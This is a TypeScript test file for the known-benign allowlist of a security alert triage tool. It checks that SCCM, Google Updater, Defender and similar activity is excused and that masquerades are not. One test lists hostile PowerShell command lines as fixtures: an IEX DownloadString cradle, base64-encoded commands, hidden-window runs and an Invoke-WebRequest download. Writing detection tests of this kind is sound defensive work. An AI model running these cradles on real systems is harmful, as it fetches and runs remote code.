// Known-benign patterns: the bundled list parses and excuses what it should (and only that), masquerades and
// download cradles are not excused, and a broken site file fails with the file, line and path named.
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Finding, RuleRef } from '../../../core/finding.ts';
import { BuiltinAnalystError } from '../errors.ts';
import { ctx, sigmaRule, sysmonDetection, type ProcessEvent } from '../test-helpers.ts';
import { viewOf } from '../view.ts';
import { BuiltinRulesAnalyst } from './analyst.ts';
import { DEFAULT_KNOWN_BENIGN_FILE, loadKnownBenign } from './index.ts';
import { matchKnownBenign, parseKnownBenign, tacticsOf, type KnownBenignPattern } from './known-benign.ts';

const bundled = await loadKnownBenign();
const analyst = new BuiltinRulesAnalyst(bundled);

const HIGH_EXEC = sigmaRule({ level: 'high', status: 'test', tags: ['attack.execution', 'attack.t1059.001'] });
const HIGH_PERSIST = sigmaRule({
  id: 'a6aa1d4b-0c18-4b8a-a04e-7b6a3a8ff2d1',
  title: 'Scheduled Task Creation From Unusual Location',
  level: 'high',
  status: 'test',
  tags: ['attack.persistence', 'attack.t1053.005'],
});

function matched(patterns: readonly KnownBenignPattern[], f: Finding): string[] {
  return matchKnownBenign(patterns, viewOf(f)).map((m) => m.pattern.id);
}

const sccm = (commandLine: string): ProcessEvent => ({
  host: 'ws-101',
  image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  parentImage: 'C:\\Windows\\CCM\\CcmExec.exe',
  commandLine,
  user: 'NT AUTHORITY\\SYSTEM',
});
const SCCM_SCRIPT =
  'powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -File "C:\\Windows\\CCM\\SystemTemp\\4fa2c1d0-1a2b-4c5d-8e9f-0a1b2c3d4e5f.ps1"';

describe('known-benign: the bundled list', () => {
  it('parses, with unique ids and every pattern scoped', async () => {
    assert.ok(bundled.length >= 10);
    assert.equal(new Set(bundled.map((p) => p.id)).size, bundled.length);
    for (const p of bundled) {
      assert.ok(p.when.length > 0, p.id);
      assert.ok(p.maxLevel !== undefined, `${p.id} has a maxLevel`);
      assert.ok(p.tactics !== undefined, `${p.id} is scoped to tactics`);
    }
    assert.ok(bundled.some((p) => p.id === 'google-updater' && p.strength === 'strong'));
    assert.equal(DEFAULT_KNOWN_BENIGN_FILE.endsWith('known-benign.yaml'), true);
  });

  it('an SCCM deployment script is excused (benign), with the matched fields as evidence', async () => {
    const f = sysmonDetection(sccm(SCCM_SCRIPT), HIGH_EXEC);
    assert.deepEqual(matched(bundled, f), ['sccm-client-runs-scripts']);
    const v = await analyst.judge(f, ctx());
    assert.equal(v.label, 'benign');
    assert.match(v.rationale, /known-benign pattern sccm-client-runs-scripts \(strong\)/);
    assert.ok(v.evidence.includes('known-benign:sccm-client-runs-scripts'));
    assert.ok(v.evidence.includes('evidence[0].data.Event.EventData.ParentImage'));
    assert.ok(v.evidence.includes('evidence[0].data.Event.EventData.Image'));
  });

  it('a download cradle, an encoded or hidden command voids the pattern', async () => {
    const cradles = [
      'powershell.exe -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"',
      'powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      'powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIA==',
      'powershell.exe -w hidden -File C:\\Windows\\CCM\\SystemTemp\\x.ps1',
      'powershell.exe -WindowStyle Hidden -File C:\\Windows\\CCM\\SystemTemp\\x.ps1',
      'powershell.exe Invoke-WebRequest http://203.0.113.7/x -OutFile C:\\Windows\\Temp\\x.exe',
      // PowerShell takes an en dash or em dash for the dash
      'powershell.exe \u2013enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi',
      'powershell.exe \u2014w hidden -File C:\\Windows\\CCM\\SystemTemp\\x.ps1',
    ];
    for (const c of cradles) {
      const f = sysmonDetection(sccm(c), HIGH_EXEC);
      assert.deepEqual(matched(bundled, f), [], c);
      assert.equal((await analyst.judge(f, ctx())).label, 'malicious', c);
    }
    // -ExecutionPolicy starts with -e but is not -e: still excused
    assert.deepEqual(matched(bundled, sysmonDetection(sccm('powershell.exe -ExecutionPolicy Bypass -File x.ps1'))), [
      'sccm-client-runs-scripts',
    ]);
  });

  it("Google's machine-wide updater is excused; a per-user AppData copy is not", async () => {
    const machine = sysmonDetection(
      {
        host: 'ws-102',
        image: 'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe',
        commandLine: '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /ua /installsource scheduler',
        parentImage: 'C:\\Windows\\System32\\svchost.exe',
      },
      HIGH_PERSIST,
    );
    assert.deepEqual(matched(bundled, machine), ['google-updater']);
    assert.equal((await analyst.judge(machine, ctx())).label, 'benign');

    const perUser = sysmonDetection(
      {
        host: 'ws-102',
        image: 'C:\\Users\\k.sato\\AppData\\Local\\Google\\Update\\GoogleUpdate.exe',
        commandLine:
          '"C:\\Users\\k.sato\\AppData\\Local\\Google\\Update\\GoogleUpdate.exe" /ua /installsource scheduler',
        parentImage: 'C:\\Windows\\System32\\svchost.exe',
        user: 'CORP\\k.sato',
      },
      HIGH_PERSIST,
    );
    assert.deepEqual(matched(bundled, perUser), []);
    assert.equal((await analyst.judge(perUser, ctx())).label, 'malicious');
    // a look-alike folder is not Program Files either
    const lookAlike = sysmonDetection(
      { host: 'ws-102', image: 'C:\\ProgramData\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe' },
      HIGH_PERSIST,
    );
    assert.deepEqual(matched(bundled, lookAlike), []);
  });

  it('tactics scope: the updater is not excused for credential access; Defender is', () => {
    const updaterCreds = sysmonDetection(
      { host: 'ws-103', image: 'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe' },
      sigmaRule({ level: 'high', tags: ['attack.persistence', 'attack.credential-access'] }),
    );
    assert.deepEqual(matched(bundled, updaterCreds), []);
    // a rule without any tactic qualifies
    const untagged = sysmonDetection(
      { host: 'ws-103', image: 'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe' },
      sigmaRule({ level: 'high', tags: ['attack.t1053'] }),
    );
    assert.deepEqual(matched(bundled, untagged), ['google-updater']);
  });

  it('maxLevel: no pattern excuses a rule above its level', () => {
    const ev = { host: 'ws-104', image: 'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe' };
    assert.deepEqual(matched(bundled, sysmonDetection(ev, { ...HIGH_PERSIST, level: 'high' })), ['google-updater']);
    assert.deepEqual(matched(bundled, sysmonDetection(ev, { ...HIGH_PERSIST, level: 'critical' })), []);
    // zabbix is moderate and capped at medium
    const zabbix: ProcessEvent = {
      host: 'srv-db01',
      image: 'C:\\Windows\\System32\\cmd.exe',
      parentImage: 'C:\\Program Files\\Zabbix Agent\\zabbix_agentd.exe',
      commandLine: 'cmd /c wmic logicaldisk get size,freespace',
    };
    const disc = (level: RuleRef['level']) => sigmaRule({ level, tags: ['attack.discovery', 'attack.t1082'] });
    assert.deepEqual(matched(bundled, sysmonDetection(zabbix, disc('medium'))), ['zabbix-agent-checks']);
    assert.deepEqual(matched(bundled, sysmonDetection(zabbix, disc('high'))), []);
  });

  it('every field of `when` must hold: the agent path must be under Program Files', () => {
    const mma = (parentImage: string) =>
      sysmonDetection(
        {
          host: 'srv-app07',
          image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          parentImage,
          commandLine:
            'powershell.exe -File C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\Health Service State\\x.ps1',
        },
        sigmaRule({ level: 'medium', tags: ['attack.execution'] }),
      );
    assert.deepEqual(
      matched(bundled, mma('C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe')),
      ['microsoft-monitoring-agent'],
    );
    assert.deepEqual(
      matched(bundled, mma('C:\\Users\\Public\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe')),
      [],
    );
  });

  it('Defender scanning LSASS is excused, but against a strong rule it is a conflict, not benign', async () => {
    const f = sysmonDetection(
      { host: 'srv-dc01', image: 'C:\\Windows\\System32\\lsass.exe' },
      sigmaRule({ level: 'high', status: 'stable', tags: ['attack.credential-access', 'attack.t1003.001'] }),
    );
    // a process-access event: the source image is the scanner
    const data = f.evidence[0]!.data as { Event: { EventData: Record<string, unknown> } };
    data.Event.EventData.SourceImage =
      'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe';
    data.Event.EventData.TargetImage = 'C:\\Windows\\system32\\lsass.exe';
    assert.deepEqual(matched(bundled, f), ['defender-scans-processes']);
    const v = await analyst.judge(f, ctx());
    // 1.25 + 1.0 against -3: both strong
    assert.equal(v.label, 'needs-human');
    assert.match(v.rationale, /^Conflicting factors/);
    // the same source image from a user folder is not Defender
    data.Event.EventData.SourceImage = 'C:\\Users\\Public\\MsMpEng.exe';
    assert.deepEqual(matched(bundled, f), []);
    assert.equal((await analyst.judge(f, ctx())).label, 'malicious');
  });

  it('a jump host by name is a moderate excuse for lateral movement', async () => {
    const psexec = (host: string) =>
      sysmonDetection(
        {
          host,
          image: 'C:\\Tools\\PsExec64.exe',
          commandLine: 'PsExec64.exe \\\\srv-app07 -s cmd.exe /c ipconfig',
          parentImage: 'C:\\Windows\\System32\\cmd.exe',
          user: 'CORP\\adm-tanaka',
        },
        sigmaRule({ level: 'medium', status: 'test', tags: ['attack.lateral-movement', 'attack.t1021.002'] }),
      );
    assert.deepEqual(matched(bundled, psexec('adm-jump01')), ['admin-jump-host']);
    assert.deepEqual(matched(bundled, psexec('ws-jumper')), []);
    // 0.8 × 0.85 - 1.5
    assert.equal((await analyst.judge(psexec('adm-jump01'), ctx())).label, 'needs-human');
    assert.match(
      (await analyst.judge(psexec('adm-jump01'), ctx())).rationale,
      /admin-jump-host \(moderate\): Administration from a jump host -1\.5/,
    );
  });

  it('a field the event lacks is not a match (fails closed)', () => {
    const p = parseKnownBenign(
      'version: 1\npatterns:\n  - id: any-parent\n    title: t\n    why: w\n    strength: strong\n' +
        '    when:\n      parentImage: { endswith: [.exe] }\n',
      'x.yaml',
    );
    const f = sysmonDetection({ host: 'ws-105', image: 'C:\\Windows\\System32\\cmd.exe' }, HIGH_EXEC);
    assert.deepEqual(matched(p, f), ['any-parent']);
    const data = f.evidence[0]!.data as { Event: { EventData: Record<string, unknown> } };
    delete data.Event.EventData.ParentImage;
    assert.deepEqual(matched(p, f), []);
    // `-` is how Windows writes "none": absent as well
    data.Event.EventData.ParentImage = '-';
    assert.deepEqual(matched(p, f), []);
  });

  it('tacticsOf skips technique, group and software tags', () => {
    assert.deepEqual(
      tacticsOf(['attack.execution', 'attack.t1059.001', 'attack.g0016', 'attack.s0002', 'cve.2021-1']),
      ['execution'],
    );
  });
});

describe('known-benign: site patterns (parseKnownBenign)', () => {
  const site = `version: 1
x-noisy: &noisy
  - commandLine: { contains: [' -enc '] }
patterns:
  - id: backup-moderate
    title: Backup tool
    why: The nightly backup runs robocopy.
    strength: moderate
    when:
      image: { equals: ['C:\\Tools\\Backup\\robocopy.exe'] }
  - id: backup-strong
    title: Backup tool, scheduled
    why: Pinned to the admin-only path and its scheduler.
    strength: strong
    when:
      image: { startswith: ['C:\\Tools\\Backup\\'], endswith: ['\\robocopy.exe'] }
      parentImage: { regex: ['^C:\\\\Windows\\\\System32\\\\svchost\\.exe$'] }
    unless: *noisy
    rules: [5af54681-df95-4c26-854f-2565e13cfab0]
`;
  const backup = (parentImage: string, commandLine = 'robocopy C:\\data \\\\nas01\\backup /MIR') =>
    sysmonDetection(
      { host: 'srv-fs01', image: 'C:\\Tools\\Backup\\robocopy.exe', parentImage, commandLine },
      HIGH_EXEC,
    );

  it('strong patterns come first; strength sets the points', async () => {
    const p = parseKnownBenign(site, 'site.yaml');
    assert.deepEqual(matched(p, backup('C:\\Windows\\System32\\svchost.exe')), ['backup-strong', 'backup-moderate']);
    assert.deepEqual(matched(p, backup('C:\\Windows\\explorer.exe')), ['backup-moderate']);
    const a = new BuiltinRulesAnalyst(p);
    const strong = await a.judge(backup('C:\\Windows\\System32\\svchost.exe'), ctx());
    const moderate = await a.judge(backup('C:\\Windows\\explorer.exe'), ctx());
    // 1.25 × 0.85 + 0.3 × 0.85 = 1.32: -3 gives benign, -1.5 leaves it weak
    assert.equal(strong.label, 'benign');
    assert.match(strong.rationale, /backup-strong \(strong\): Backup tool, scheduled -3\./);
    assert.equal(moderate.label, 'needs-human');
    assert.match(moderate.rationale, /backup-moderate \(moderate\): Backup tool -1\.5/);
  });

  it('unless (through an x- anchor) and rules scope apply', () => {
    const p = parseKnownBenign(site, 'site.yaml');
    assert.deepEqual(matched(p, backup('C:\\Windows\\System32\\svchost.exe', 'robocopy -enc abc')), [
      'backup-moderate',
    ]);
    const other = { ...backup('C:\\Windows\\System32\\svchost.exe'), rule: { ...HIGH_EXEC, id: 'another-rule' } };
    assert.deepEqual(matched(p, other), ['backup-moderate']);
  });

  it('matching is case-insensitive', () => {
    const p = parseKnownBenign(site, 'site.yaml');
    const f = sysmonDetection({ host: 'srv-fs01', image: 'c:\\tools\\BACKUP\\RoboCopy.EXE' }, HIGH_EXEC);
    assert.deepEqual(matched(p, f), ['backup-moderate']);
  });

  const invalid: [what: string, text: string, message: RegExp][] = [
    ['bad YAML', 'version: 1\npatterns:\n  - id: x\n   title: [unclosed\n', /^site\.yaml:\d+: not valid YAML/],
    ['duplicate keys', 'version: 1\nversion: 1\npatterns: []\n', /^site\.yaml:2: not valid YAML/],
    ['version 2', 'version: 2\npatterns: []\n', /^site\.yaml:1: version: /],
    ['unknown top-level key', 'version: 1\npatterns: []\nextra: 1\n', /^site\.yaml:3: extra: unknown key extra/],
    [
      'bad strength, with its line and path',
      'version: 1\npatterns:\n  - id: a\n    title: t\n    why: w\n    strength: total\n    when:\n      image: { equals: [x] }\n',
      /^site\.yaml:6: patterns\.0\.strength: /,
    ],
    [
      'unknown field name',
      'version: 1\npatterns:\n  - id: a\n    title: t\n    why: w\n    strength: strong\n    when:\n      imagePath: { equals: [x] }\n',
      /^site\.yaml:\d+: patterns\.0\.when/,
    ],
    [
      'a condition with no operator',
      'version: 1\npatterns:\n  - id: a\n    title: t\n    why: w\n    strength: strong\n    when:\n      image: {}\n',
      /patterns\.0\.when\.image: give at least one operator/,
    ],
    [
      'bad id',
      'version: 1\npatterns:\n  - id: Bad_ID\n    title: t\n    why: w\n    strength: strong\n    when:\n      image: { equals: [x] }\n',
      /^site\.yaml:3: patterns\.0\.id: lower-case letters/,
    ],
    [
      'bad maxLevel',
      'version: 1\npatterns:\n  - id: a\n    title: t\n    why: w\n    strength: strong\n    maxLevel: severe\n    when:\n      image: { equals: [x] }\n',
      /patterns\.0\.maxLevel: a severity/,
    ],
    [
      'duplicate ids',
      'version: 1\npatterns:\n  - id: a\n    title: t\n    why: w\n    strength: strong\n    when:\n      image: { equals: [x] }\n  - id: a\n    title: t\n    why: w\n    strength: strong\n    when:\n      image: { equals: [y] }\n',
      /^site\.yaml: patterns\[1\] \(a\): duplicate id a/,
    ],
    [
      'bad regex',
      "version: 1\npatterns:\n  - id: a\n    title: t\n    why: w\n    strength: strong\n    when:\n      image: { regex: ['(unclosed'] }\n",
      /^site\.yaml: patterns\[0\] \(a\)\.when\.image\.regex\[0\]: not a valid regular expression/,
    ],
    ['not a mapping', '- just\n- a list\n', /^site\.yaml(:1)?: \(top level\)/],
  ];
  for (const [what, text, message] of invalid) {
    it(`KNOWN_BENIGN_INVALID naming the file: ${what}`, () => {
      assert.throws(
        () => parseKnownBenign(text, 'site.yaml'),
        (e: unknown) => {
          assert.ok(e instanceof BuiltinAnalystError);
          assert.equal(e.code, 'KNOWN_BENIGN_INVALID');
          assert.match(e.message, message);
          return true;
        },
      );
    });
  }
});

describe('known-benign: files', () => {
  let dir = '';
  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'mamori-known-benign-'));
  });
  after(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('a missing file is KNOWN_BENIGN_NOT_FOUND naming it', async () => {
    const file = join(dir, 'nope.yaml');
    await assert.rejects(loadKnownBenign(file), (e: unknown) => {
      assert.ok(e instanceof BuiltinAnalystError);
      assert.equal(e.code, 'KNOWN_BENIGN_NOT_FOUND');
      assert.ok(e.message.startsWith(`${file}:`));
      assert.match(e.message, /ENOENT/);
      return true;
    });
    // a directory in its place cannot be read either
    await assert.rejects(loadKnownBenign(dir), { code: 'KNOWN_BENIGN_NOT_FOUND' });
  });

  it('an invalid file is KNOWN_BENIGN_INVALID with its path and line', async () => {
    const file = join(dir, 'bad.yaml');
    await writeFile(file, 'version: 1\npatterns:\n  - id: a\n    title: t\n');
    await assert.rejects(loadKnownBenign(file), (e: unknown) => {
      assert.ok(e instanceof BuiltinAnalystError);
      assert.equal(e.code, 'KNOWN_BENIGN_INVALID');
      assert.ok(e.message.startsWith(`${file}:3: patterns.0`), e.message);
      return true;
    });
  });
});
